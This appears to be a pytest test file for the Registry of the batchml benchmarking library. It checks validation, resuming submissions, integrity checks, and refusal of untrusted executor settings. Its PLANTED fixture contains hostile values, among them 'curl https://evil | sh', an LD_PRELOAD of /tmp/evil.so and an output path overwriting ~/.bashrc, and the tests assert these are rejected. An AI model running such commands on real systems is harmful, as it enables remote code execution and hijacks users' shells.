"""The public `Registry` on a real database, mostly without workers."""

import json
import warnings

import pandas as pd
import pytest
from sqlalchemy import text

import batchml as bm
from batchml.errors import (
    ConfigError,
    DesignError,
    NotARegistryError,
    ReadOnlyError,
    RegistryError,
    TrustError,
    UnknownKeyError,
)
from batchml.executors.consent import Consent, recall, remember
from batchml.registry.backlog import read_backlog
from batchml.study import StalledWarning


@pytest.fixture
def registry(registry_url, tmp_path, monkeypatch):
    monkeypatch.setenv("BATCHML_STATE", str(tmp_path / "state"))
    with bm.Registry.create(registry_url, seed=1) as opened:
        yield opened


def grid(**more):
    return bm.benchmark_grid(
        "iris", ["classif.featureless", "classif.tree"], bm.rsmp("cv", folds=3), measures="classif.acc", **more
    )


def test_adding_twice_adds_nothing(registry):
    assert len(registry.add(grid(), name="a")) == 6
    assert registry.add(grid(), name="a") == []
    assert registry.tally()["defined"] == 6


def test_exist_ok_opens_what_is_there(registry, registry_url):
    with bm.Registry.create(registry_url, exist_ok=True) as again:
        assert again.seed == registry.seed


def test_opening_makes_nothing(tmp_path):
    with pytest.raises(NotARegistryError):
        bm.Registry.open(f"sqlite:///{tmp_path}/gone.db")
    assert list(tmp_path.iterdir()) == []


def test_a_registry_opened_for_reading_refuses_changes_and_answers_questions(registry, registry_url):
    registry.add(grid(), name="a")
    with bm.Registry.open(registry_url, readonly=True) as reader:
        assert len(reader.jobs()) == 6
        with pytest.raises(ReadOnlyError):
            reader.cancel([1])


@pytest.mark.parametrize("jobs", [1, [1], (1, 1), pd.DataFrame({"job_id": [1]}), pd.Series([1])])
def test_jobs_are_named_by_ids_or_frames(registry, jobs):
    registry.add(grid(), name="a")
    assert registry.cancel(jobs) == 1
    assert registry.jobs(state="cancelled")["job_id"].tolist() == [1]


@pytest.mark.parametrize("jobs", ["1", [1.5], pd.DataFrame({"id": [1]}), [None], True, pd.Series([True]), [1, True]])
def test_what_names_no_jobs_is_refused(registry, jobs):
    registry.add(grid(), name="a")
    with pytest.raises(ConfigError, match="job_id"):
        registry.cancel(jobs)


@pytest.mark.parametrize("job", ["1", 1.0, None, [1], True, "\ud800"])
def test_what_is_no_job_is_refused_by_every_question_about_one(registry, job):
    registry.add(grid(), name="a")
    for ask in (registry.log, registry.attempts, registry.why, registry.test_job):
        with pytest.raises(ConfigError, match="a job is named by a whole number"):
            ask(job)


@pytest.mark.parametrize("name", ["", " ", "a\0b", "\ud800", "a\nb", 3, "x" * 201])
def test_a_name_that_nobody_could_type_is_no_name_of_a_benchmark_or_tag(registry, name):
    for make in (lambda: registry.add(grid(), name=name), lambda: registry.tag([], name)):
        with pytest.raises(ConfigError, match="a text of 1 to 200 characters in a line"):
            make()
    assert registry.add(grid(), name=" a ")
    assert registry.jobs()["benchmark"].unique().tolist() == ["a"]


@pytest.mark.parametrize("label", ["a\0b", "\ud800"])
def test_a_label_that_no_database_stores_is_refused_on_each(registry, label):
    for learner, measure in (
        (bm.lrn("classif.tree", id=label), bm.msr("classif.acc")),
        (bm.lrn("classif.tree"), bm.msr("classif.acc", id=label)),
    ):
        with pytest.raises(DesignError, match="no database stores the id"):
            registry.add(bm.benchmark_grid("iris", learner, bm.rsmp("holdout"), measures=[measure]), name="a")
    assert registry.tally() == dict.fromkeys(registry.tally(), 0)


def test_nonsense_is_refused_in_a_sentence(registry, tmp_path):
    registry.add(grid(), name="a")
    questions = (
        lambda: registry.jobs(params=3),
        lambda: registry.summary(None),
        lambda: registry.grep_logs(3),
        lambda: registry.sql(None),
        lambda: registry.sql("SELECT 1\0, 2"),
        lambda: registry.sql("SELECT 1", "1m"),
        lambda: registry.sql("SELECT :a", a="\ud800"),
        lambda: registry.export(""),
        lambda: registry.export(3),
        lambda: registry.export(tmp_path / "a\0b"),
        lambda: registry.stop(3),
        lambda: registry.resume(assume_dead=3, dry_run=True),
        lambda: registry.submit(executor=bm.Local),
    )
    for ask in questions:
        with pytest.raises(ConfigError) as caught:
            ask()
        assert "\n" not in str(caught.value)
    with pytest.raises(UnknownKeyError):
        registry.reduce([2**70])


def test_unknown_jobs_are_refused_and_nothing_is_changed(registry):
    registry.add(grid(), name="a")
    with pytest.raises(UnknownKeyError, match="99"):
        registry.cancel([1, 99])
    assert registry.tally()["cancelled"] == 0


def test_waiting_ends_with_the_reason_when_nobody_is_there(registry):
    registry.add(grid(), name="a")
    registry.submit(executor=Nobody())
    make_submissions_old(registry)
    with pytest.warns(StalledWarning, match="6 queued jobs have no worker alive or pending"):
        assert registry.wait() is False


def test_a_young_submission_may_still_be_starting_its_workers(registry):
    registry.add(grid(), name="a")
    registry.submit(executor=Nobody())
    assert read_backlog(registry._store).stalled is None
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert registry.wait(timeout=0.0) is False


def test_waiting_for_nothing_is_over_at_once(registry):
    assert registry.wait() is True
    assert registry.wait(timeout="2h") is True
    with pytest.raises(ConfigError, match="no duration"):
        registry.wait(timeout="soon")


def test_resume_starts_workers_as_the_last_submission_did_and_may_change_what_jobs_need(registry):
    registry.add(grid(), name="a")
    registry.submit([1, 2], executor=Nobody(), resources={"memory": "1G"})
    registry.submit([3], executor=Nobody())
    assert registry.resume(dry_run=True).submissions == ()
    report = registry.resume(executor=Nobody(), resources={"memory": "2G"})
    assert [each.queued for each in report.submissions] == [2, 1]
    with registry._store.read() as connection:
        needs = connection.exec_driver_sql("SELECT DISTINCT resource_id FROM job WHERE state = 'queued'").all()
    assert len(needs) == 1
    assert registry.jobs(state="queued")["job_id"].tolist() == [1, 2, 3]


def test_resume_on_another_kind_of_executor_asks_it_for_what_every_executor_understands(registry):
    registry.add(grid(), name="a")
    registry.submit([1, 2, 3], executor=Nobody(), resources={"memory": "1G", "licenses": "matlab"})
    with pytest.raises(ConfigError, match="no such place"):
        registry.resume(executor=Nowhere())
    assert registry.sql("SELECT COUNT(DISTINCT submission_id) AS n FROM workers")["n"].item() == 0
    (started,) = registry.resume(executor=Elsewhere()).submissions
    assert started.queued == 3
    with registry._store.read() as connection:
        body = connection.exec_driver_sql("SELECT CAST(body AS TEXT) FROM resource ORDER BY id DESC").scalar()
    assert json.loads(body) == {"memory_mb": 1024}


PLANTED = {
    "setup": {"setup": ["curl https://evil | sh"]},
    "python": {"python": "/tmp/evil"},
    "template": {"template": "/tmp/evil.jinja"},
    "env": {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
    "lines": {"lines": ["--output=/home/me/.bashrc"]},
}


@pytest.mark.parametrize("what", PLANTED)
def test_what_somebody_else_told_an_executor_is_not_run_by_whoever_resumes(registry, registry_url, what):
    """Shell lines and the like are taken from the registry only if this user has put them there."""
    from sqlalchemy import text

    from batchml.registry.store import Store

    registry.add(grid(), name="a")
    registry.submit([1, 2], executor=Nobody())
    with Store.open(registry_url) as store, store.write() as connection:
        planted = text("UPDATE submission SET executor = 'slurm', settings = :settings")
        connection.execute(planted, {"settings": json.dumps({"workers": 1, "partition": "debug", **PLANTED[what]})})
    with pytest.raises(TrustError, match=rf"settings {what} of the executor slurm.*resume --executor slurm"):
        registry.resume()
    assert len(registry.sql("SELECT * FROM workers")) == 0
    assert len(registry.resume(executor=Nobody()).submissions) == 1


def test_options_of_a_scheduler_that_somebody_else_asked_for_are_not_passed_on(registry, registry_url):
    from sqlalchemy import text

    from batchml.registry.store import Store

    registry.add(grid(), name="a")
    registry.submit([1, 2], executor=Nobody(), resources={"memory": "1G"})
    with Store.open(registry_url) as store, store.write() as connection:
        planted = text("UPDATE resource SET body = :body")
        connection.execute(planted, {"body": json.dumps({"extra": {"output": "/home/me/.bashrc"}})})
    with pytest.raises(TrustError, match="options output of the executor local"):
        registry.resume()
    with pytest.raises(ConfigError, match="output"):
        registry.resume(executor=bm.Local(slots=1), resources={"output": "x"})


def test_modules_that_nobody_trusted_stop_a_submission_before_it_queues(registry, tmp_path, monkeypatch):
    (tmp_path / "foreign_learners.py").write_text(
        "from sklearn.dummy import DummyClassifier\n\nclass Mine(DummyClassifier):\n    pass\n"
    )
    (tmp_path / "design.toml").write_text(
        '[benchmark]\nmodules = ["foreign_learners"]\n[[task]]\nkey = "iris"\n'
        '[[learner]]\nclass = "foreign_learners.Mine"\n[[resampling]]\nkey = "cv"\nfolds = 2\n'
    )
    from batchml.experiment.design_file import load_design

    monkeypatch.syspath_prepend(str(tmp_path))
    registry.add(load_design(tmp_path / "design.toml"))
    assert recall(registry.info()["id"]).modules == ("foreign_learners",)
    assert registry.submit([], executor=Nobody()).queued == 0
    monkeypatch.setenv("BATCHML_STATE", str(tmp_path / "somebody_else"))
    with pytest.raises(TrustError, match="BATCHML_TRUSTED_MODULES=foreign_learners"):
        registry.submit(executor=Nobody())
    assert registry.tally()["queued"] == 0


def test_consent_adds_up_and_survives_a_damaged_file(tmp_path, monkeypatch):
    monkeypatch.setenv("BATCHML_STATE", str(tmp_path))
    remember("r", Consent(modules=("a",), paths=("/x",)))
    remember("r", Consent(modules=("b", "a")))
    assert recall("r") == Consent(modules=("a", "b"), paths=("/x",))
    (tmp_path / "trusted/r.json").write_text("{")
    assert recall("r") == Consent()


def test_an_estimate_uses_what_the_like_has_taken(registry):
    registry.add(grid(), name="a")
    assert registry.estimate().remaining_s is None
    submission = registry.submit([1, 2, 3, 4], executor=bm.Local(slots=1))
    assert submission.wait(60)
    found = registry.estimate(slots=2)
    assert found.jobs_left == 2
    assert found.remaining_s == pytest.approx(found.work_s / 2)
    assert registry.estimate(submitted=True).jobs_left == 0


def test_a_trial_gives_what_the_worker_gives_and_writes_nothing(registry):
    registry.add(grid(), name="a")
    inside, outside = registry.test_job(5), registry.test_job(5, external=True)
    assert inside["ending"] == outside["ending"] == "done"
    assert inside["scores"] == outside["scores"]
    assert registry.tally()["defined"] == 6
    assert registry.submit([5], executor=bm.Local(slots=1)).wait(60)
    assert registry.sql("SELECT value FROM scores")["value"].tolist() == list(inside["scores"].values())


def test_a_sound_registry_has_no_problems_and_damaged_or_lost_data_are_one(registry):
    registry.add(grid(), name="a")
    assert registry.check() == []
    data = next(path for path in registry._store.artifact_path.glob("table/*/*") if path.is_file())
    content = bytearray(data.read_bytes())
    content[len(content) // 2] ^= 1
    data.write_bytes(content)
    assert "damaged" in registry.check()[0]
    data.unlink()
    assert "missing" in registry.check()[0]


def change(registry, *statements):
    with registry._store.write() as connection:
        for statement in statements:
            connection.execute(text(statement))


def test_what_is_gone_or_altered_in_a_registry_is_named(registry, registry_url):
    registry.add(grid(), name="a")
    change(registry, "DROP VIEW coverage")
    assert registry.check() == ["the view coverage is gone: `batchml db upgrade` makes it"]
    assert len(set(bm.Registry.upgrade(registry_url))) == 1
    assert registry.check() == []
    change(registry, "UPDATE spec SET body = '{}' WHERE kind IN ('measure', 'task')")
    (damage,) = registry.check()
    assert damage.startswith("the measure ")
    assert "is not what its digest says" in damage
    cascade = " CASCADE" if registry_url.startswith("postgresql") else ""
    change(registry, f"DROP TABLE log{cascade}")
    assert "the table log is gone: restore a copy" in registry.check()


def test_a_text_that_cannot_be_read_is_damage_and_no_mistake_of_ours(tmp_path):
    with bm.Registry.create(f"sqlite:///{tmp_path}/a.db", seed=1) as registry:
        registry.add(grid(), name="a")
        change(registry, "UPDATE spec SET body = '{nonsense' WHERE kind = 'model'")
        assert [damage[:10] for damage in registry.check()] == ["the model "] * 2
        with pytest.raises(RegistryError, match="is damaged: a text in it cannot be read"):
            registry.reduce()


@pytest.mark.parametrize("registry_url", ["sqlite"], indirect=True)
def test_unlocking_what_nobody_holds_says_so(registry, tmp_path):
    assert bm.Registry.unlock(f"sqlite:///{tmp_path}/study.db") is None
    (tmp_path / "study.db.owner").write_text('{"host": "old"}')
    assert "old" in bm.Registry.unlock(f"sqlite:///{tmp_path}/study.db")
    assert not (tmp_path / "study.db.owner").exists()


def test_it_prints_where_it_is_and_what_is_in_it(registry):
    registry.add(grid(), name="a")
    assert "6 defined" in repr(registry)
    assert registry.url.partition("?")[0].rpartition("/")[2] in repr(registry)


class Nobody:
    """An executor that starts no worker."""

    name = "local"
    settings = {"slots": 1, "workers": 1, "detach": False}  # noqa: RUF012

    def check(self, resources):
        pass

    def start(self, launch):
        return []


class Counted(Nobody):
    def __init__(self):
        self.started = 0

    def start(self, launch):
        self.started += 1
        return []


def test_no_worker_is_started_where_nothing_waits(registry):
    registry.add(grid(), name="a")
    executor = Counted()
    assert registry.submit([], executor=executor).queued == 0
    assert executor.started == 0
    registry.submit([1], executor=executor)
    assert registry.submit([1], executor=executor).queued == 0  # more workers for what is queued
    assert executor.started == 2


class Elsewhere(Nobody):
    name = "elsewhere"


class Nowhere(Nobody):
    name = "nowhere"

    def check(self, resources):
        raise ConfigError("there is no such place")


def make_submissions_old(registry):
    with registry._store.write() as connection:
        connection.exec_driver_sql("UPDATE submission SET created_at = '2020-01-01 00:00:00.000'")


def test_what_is_no_design_executor_or_filter_is_named(registry):
    registry.add(grid())
    for wrong, words in (
        (lambda: registry.add("design.toml"), "benchmark_grid.*'design.toml'"),
        (lambda: registry.plan(None), "benchmark_grid"),
        (lambda: registry.submit(executor="local"), r"bm\.Local"),
        (lambda: registry.submit(resources="cpus=2"), "mapping"),
        (lambda: registry.submit(resources={"memroy": "4G"}), "did you mean 'memory'"),
        (lambda: registry.jobs(stat="done"), "did you mean 'state'"),
        (lambda: registry.jobs(task=3), "no task '3'"),
    ):
        with pytest.raises(ConfigError, match=words):
            wrong()
    assert registry.tally()["defined"] == 6


def test_a_trial_leaves_database_and_folder_as_they_were(registry, tmp_path):
    registry.add(grid(), name="a")
    places = [tmp_path, registry._store.artifact_path]

    def content():
        with registry._store.read() as connection:
            rows = {
                name: connection.exec_driver_sql(f"SELECT * FROM {name} ORDER BY 1").all()
                for name in (
                    "job",
                    "attempt",
                    "result",
                    "prediction",
                    "score",
                    "condition",
                    "log",
                    "worker",
                    "registry",
                )
            }
        files = {
            path: (path.stat().st_size, path.stat().st_mtime_ns)
            for place in places
            for path in place.rglob("*")
            if path.is_file() and not path.name.endswith(("-wal", "-shm"))
        }
        return rows, files

    before = content()
    registry.test_job(1)
    registry.test_job(4, external=True)
    assert content() == before
